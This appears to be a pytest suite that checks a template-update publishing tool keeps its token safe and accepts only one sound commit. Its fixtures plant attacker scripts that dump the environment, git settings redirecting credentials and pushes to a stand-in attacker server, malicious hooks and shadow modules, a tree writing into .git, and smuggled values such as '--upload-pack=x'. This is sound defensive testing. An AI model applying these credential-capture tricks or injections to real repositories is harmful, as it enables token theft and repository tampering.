"""What an update brings cannot get at the token, nor at more than its own branch."""

from __future__ import annotations

import json
import os
from collections.abc import Callable, Iterator
from pathlib import Path
from shutil import copytree

import pytest

from render.projects import commit, git
from update.weekly_update import BRANCH, Host, WeeklyUpdate

pytestmark = pytest.mark.skipif(
    os.name == "nt", reason="programs of the attacker are shell scripts"
)


@pytest.fixture
def trap(prepared: WeeklyUpdate) -> Iterator[Host]:
    """A server of the attacker's: whatever is sent there is kept."""
    prepared.environment["HOME"] = str(prepared.folder)
    with Host(prepared.remote) as trap:
        yield trap


def program(weekly: WeeklyUpdate, path: Path) -> str:
    """A program of the attacker's, which keeps the environment that it is started in."""
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(f'#!/bin/sh\nenv >> "{weekly.folder}/stolen"\nexit 1\n', encoding="utf-8")
    path.chmod(0o755)
    return str(path)


def settings(weekly: WeeklyUpdate, trap: Host) -> dict[str, str]:
    """Settings of git that start a program, or lead to the attacker's server."""
    evil = program(weekly, weekly.folder / "evil")
    return {
        "core.sshCommand": evil,
        "core.fsmonitor": evil,
        "core.askPass": evil,
        "core.hooksPath": str(Path(program(weekly, weekly.folder / "hooks/pre-push")).parent),
        "core.gitProxy": evil,
        "credential.helper": f"!{evil}",
        f"credential.{weekly.host.url}.helper": f"!{evil}",
        "gpg.program": evil,
        "http.proxy": trap.url,
        f"url.{trap.url}/.insteadOf": f"{weekly.host.url}/",
        f"url.{trap.url}/org/.pushInsteadOf": f"{weekly.host.url}/org/",
    }


def of_the_user(weekly: WeeklyUpdate, trap: Host) -> None:
    weekly.environment["GIT_CONFIG_GLOBAL"] = str(weekly.folder / ".gitconfig")
    weekly.environment["XDG_CONFIG_HOME"] = str(weekly.folder)
    (weekly.folder / "git").mkdir()
    for name, value in settings(weekly, trap).items():
        git(weekly.folder, "config", "--file", ".gitconfig", name, value)
        git(weekly.folder, "config", "--file", "git/config", name, value)


def of_the_machine(weekly: WeeklyUpdate, trap: Host) -> None:
    of_the_user(weekly, trap)
    weekly.environment["GIT_CONFIG_SYSTEM"] = weekly.environment.pop("GIT_CONFIG_GLOBAL")


def of_the_checkout(weekly: WeeklyUpdate, trap: Host) -> None:
    for name, value in settings(weekly, trap).items():
        git(weekly.project, "config", name, value)


def of_the_environment(weekly: WeeklyUpdate, trap: Host) -> None:
    found = settings(weekly, trap)
    weekly.environment |= {
        "GIT_CONFIG_COUNT": str(len(found)),
        "GIT_SSH_COMMAND": found["core.sshCommand"],
        "GIT_ASKPASS": found["core.sshCommand"],
        "GIT_DIR": str(weekly.project / ".git"),
        "GIT_EXEC_PATH": str(weekly.folder / "hooks"),
    }
    for number, (name, value) in enumerate(found.items()):
        weekly.environment |= {
            f"GIT_CONFIG_KEY_{number}": name,
            f"GIT_CONFIG_VALUE_{number}": value,
        }


def hooks_and_gh(weekly: WeeklyUpdate, trap: Host) -> None:
    for name in ("pre-push", "reference-transaction", "post-checkout", "pre-auto-gc"):
        program(weekly, weekly.project / ".git/hooks" / name)
    program(weekly, weekly.folder / "bin/gh")
    weekly.environment["PATH"] = f"{weekly.folder / 'bin'}{os.pathsep}{os.environ['PATH']}"


def a_module_beside_the_script(weekly: WeeklyUpdate, trap: Host) -> None:
    """In the folder that the job is in."""
    text = f"import os\nopen('{weekly.folder}/stolen', 'a').write(str(os.environ))\n"
    for name in ("json.py", "template_update.py", "sitecustomize.py"):
        (weekly.project / name).write_text(text, encoding="utf-8")


ATTACKS = [
    of_the_user,
    of_the_machine,
    of_the_checkout,
    of_the_environment,
    hooks_and_gh,
    a_module_beside_the_script,
]


@pytest.mark.some(3)
@pytest.mark.slow
@pytest.mark.parametrize("attack", ATTACKS)
def test_what_a_test_has_set_up_on_the_machine_gets_no_token(
    prepared: WeeklyUpdate, trap: Host, attack: Callable[[WeeklyUpdate, Host], None]
) -> None:
    """Not even where both steps run on one machine: the branch is published as ever."""
    attack(prepared, trap)
    assert prepared.done("publish", token="secret") == "https://example.com/1\n"
    assert prepared.pushed()
    assert not (prepared.folder / "stolen").exists()
    assert trap.headers == []


@pytest.mark.slow
def test_a_host_that_sends_elsewhere_is_not_followed(prepared: WeeklyUpdate, trap: Host) -> None:
    prepared.host.redirect = trap.url
    assert "git failed: " in prepared.refused("publish", token="secret")
    git(prepared.remote, "branch", BRANCH, "main")  # so that the API is asked, too
    prepared.environment["GITHUB_API_URL"] = f"{prepared.host.url}/api"
    with Host(prepared.remote) as honest:
        prepared.environment["GITHUB_SERVER_URL"] = honest.url
        said = prepared.refused("publish", token="secret")
    assert said.startswith("GitHub answered 307 Temporary Redirect.")
    assert trap.headers == []


@pytest.mark.slow
@pytest.mark.parametrize("server", ["http://example.com", "https://me:pw@example.com", "file://x"])
def test_the_token_goes_to_an_encrypted_address_alone(prepared: WeeklyUpdate, server: str) -> None:
    prepared.environment["GITHUB_SERVER_URL"] = server
    said = prepared.refused("publish", token="secret")
    assert said == f"{server}/org/project.git is no https address: no token goes there.\n"


def test_nothing_is_prepared_where_a_token_could_be_read(weekly: WeeklyUpdate) -> None:
    """Also out of the environment of a parent, of which `env -u` would know nothing."""
    for name in ("TEMPLATE_UPDATE_TOKEN", "GH_TOKEN", "GITHUB_TOKEN", "GITLAB_TOKEN"):
        weekly.environment = {name: "secret"}
        said = weekly.refused("prepare")
        assert said.startswith(f"{name} is set here, where code runs that the update brings:")
        assert "environment template-update" in said
        assert not weekly.report.exists()


# --- What is handed over


def bundle(weekly: WeeklyUpdate, *arguments: str) -> None:
    options = ["--quiet", "--version=2", str(weekly.report / "update.bundle")]
    git(weekly.project, "bundle", "create", *options, *arguments)


def two_branches(weekly: WeeklyUpdate) -> None:
    git(weekly.project, "branch", "release", BRANCH)
    bundle(weekly, f"refs/heads/{BRANCH}", "refs/heads/release", "^main")


def another_branch(weekly: WeeklyUpdate) -> None:
    git(weekly.project, "branch", "release", BRANCH)
    bundle(weekly, "refs/heads/release", "^main")


def a_tag(weekly: WeeklyUpdate) -> None:
    git(weekly.project, "tag", "--annotate", "--message", "x", "x", BRANCH)
    text = (weekly.report / "update.bundle").read_bytes()
    made, tag = (git(weekly.project, "rev-parse", one).strip().encode() for one in (BRANCH, "x"))
    (weekly.report / "update.bundle").write_bytes(text.replace(made, tag, 1))


def two_commits(weekly: WeeklyUpdate) -> None:
    commit(weekly.project)
    bundle(weekly, f"refs/heads/{BRANCH}", "^main")


def all_of_history(weekly: WeeklyUpdate) -> None:
    bundle(weekly, f"refs/heads/{BRANCH}")


def another_base(weekly: WeeklyUpdate) -> None:
    """A commit that the attacker made, and that the base does not have."""
    made = git(weekly.project, "rev-parse", BRANCH).strip()
    git(weekly.project, "reset", "--quiet", "--hard", "main")
    commit(weekly.project)
    git(weekly.project, "cherry-pick", made)
    bundle(weekly, f"refs/heads/{BRANCH}", f"^{BRANCH}~1")


def amended(weekly: WeeklyUpdate) -> None:
    (weekly.project / "more.txt").touch()
    git(weekly.project, "add", "--all")
    git(weekly.project, "commit", "--quiet", "--amend", "--no-edit")
    bundle(weekly, f"refs/heads/{BRANCH}", "^main")


def broken_objects(weekly: WeeklyUpdate) -> None:
    """A tree that would write into .git where it is checked out."""
    project = weekly.project
    blob = git(project, "rev-parse", f"{BRANCH}:README.md").strip()
    entry = b"100644 .git\0" + bytes.fromhex(blob)
    (weekly.folder / "tree").write_bytes(entry)
    tree = git(
        project, "hash-object", "-w", "--literally", "-t", "tree", str(weekly.folder / "tree")
    )
    message = f"Update the template to 2.0.0\n\nPrepared-Tree: {tree.strip()}"
    made = git(project, "commit-tree", tree.strip(), "-p", "main", "-m", message).strip()
    git(project, "switch", "--quiet", "main")
    git(project, "update-ref", f"refs/heads/{BRANCH}", made)
    bundle(weekly, f"refs/heads/{BRANCH}", "^main")


def no_bundle(weekly: WeeklyUpdate) -> None:
    (weekly.report / "update.bundle").write_text("# v2 git bundle\n", encoding="utf-8")


def a_link(weekly: WeeklyUpdate) -> None:
    secret = weekly.folder / "secret"
    (weekly.report / "update.bundle").rename(secret)
    (weekly.report / "update.bundle").symlink_to(secret)


def a_folder(weekly: WeeklyUpdate) -> None:
    (weekly.report / "update.bundle").unlink()
    (weekly.report / "update.bundle").mkdir()


def written(**changed: object) -> Callable[[WeeklyUpdate], None]:
    def change(weekly: WeeklyUpdate) -> None:
        text = json.dumps(weekly.ready | changed)
        (weekly.report / "pull-request.json").write_text(text, encoding="utf-8")

    return change


def deep(weekly: WeeklyUpdate) -> None:
    (weekly.report / "pull-request.json").write_text("[" * 100_000, encoding="utf-8")


HOSTILE: list[tuple[Callable[[WeeklyUpdate], None], str]] = [
    (two_branches, "is not one commit of"),
    (another_branch, "is not one commit of"),
    (two_commits, "has not the one commit of `prepare`"),
    (a_tag, "has no commit"),
    (all_of_history, "is not one commit of"),
    (another_base, "was not made on one of the last 50 commits of main"),
    (amended, "has not the one commit of `prepare`"),
    (broken_objects, "hasDotgit"),
    (no_bundle, "is not one commit of"),
    (a_link, "is no file of less than"),
    (a_folder, "is no file of less than"),
    (written(version="../main"), "is not what `prepare` writes"),
    (written(version="--upload-pack=x"), "is not what `prepare` writes"),
    (written(version="2..0"), "is no branch"),
    (written(version=2), "is not what `prepare` writes"),
    (written(draft="no"), "is not what `prepare` writes"),
    (written(text=["x", 1]), "is not what `prepare` writes"),
    (deep, "is not what `prepare` writes"),
]


@pytest.mark.slow
@pytest.mark.parametrize(("attack", "said"), HOSTILE)
def test_what_is_handed_over_is_one_sound_commit_on_the_base_or_nothing(
    prepared: WeeklyUpdate, attack: Callable[[WeeklyUpdate], None], said: str
) -> None:
    attack(prepared)
    assert said in prepared.refused("publish", token="secret")
    assert git(prepared.remote, "for-each-ref", "--format=%(refname)") == "refs/heads/main\n"
    assert prepared.host.asked == []


@pytest.mark.slow
def test_the_base_may_have_moved_meanwhile(prepared: WeeklyUpdate) -> None:
    git(prepared.project, "switch", "--quiet", "main")
    commit(prepared.project)
    git(prepared.project, "push", "--quiet", "origin", "main")
    prepared.done("publish", token="secret")
    assert prepared.pushed()


@pytest.mark.slow
def test_the_text_is_shown_as_it_is(prepared: WeeklyUpdate) -> None:
    """No command of GitLab, mention or closing word works, nor does what turns text round."""
    text = "/merge\n@org/all\n```\n/approve\n````\nFixes #1 \u202ex\x1b[31m\n" + "x" * 100_000
    written(text=text)(prepared)
    prepared.done("publish", token="secret")
    body = prepared.host.request["body"]
    assert body.startswith("```text\n/merge\n@org/all\n'''\n/approve\n'''`\nFixes #1  x [31m\n")
    assert body.endswith("x\n```\n")
    assert body.count("```") == 2
    assert len(body) < 60_000


@pytest.mark.slow
def test_what_runs_after_the_update_changes_lock_files_alone(prepared: WeeklyUpdate) -> None:
    """A workflow that a test writes would run with secrets before anybody has read it."""
    unchecked = Path(copytree(prepared.report, prepared.folder / "unchecked"))

    def tested(*names: str) -> list[str]:
        git(prepared.project, "reset", "--quiet", "--hard", "main")
        git(prepared.project, "read-tree", "-u", "--reset", tree)
        for file in (prepared.project / name for name in names):
            file.parent.mkdir(parents=True, exist_ok=True)
            file.write_text("x = 1\n", encoding="utf-8")
        git(prepared.project, "add", "--all")
        made = git(prepared.project, "write-tree").strip()
        title = ["--message", "Update the template to 2.0.0", "--message", f"Prepared-Tree: {made}"]
        git(prepared.project, "commit", "--quiet", *title)
        bundle(prepared, f"refs/heads/{BRANCH}", "^main")
        return ["--unchecked", str(unchecked)]

    tree = git(prepared.project, "rev-parse", f"{BRANCH}^{{tree}}").strip()
    ours = ("src/uv.lock.py", "locks/pylock.cpu.toml/x.py", "locks/conftest.py")
    for name in (".github/workflows/more.yml", ".github/workflows/ci.yml", *ours):
        said = prepared.refused("publish", *tested(name), token="secret")
        assert said.startswith(f"{name} is not as the update made it: ")
        assert not prepared.pushed()
    locks = ("uv.lock", "locks/pylock.rocm7_2.toml")
    prepared.done("publish", *tested(*locks), token="secret")
    for name in locks:
        assert git(prepared.remote, "show", f"{BRANCH}:{name}") == "x = 1\n"
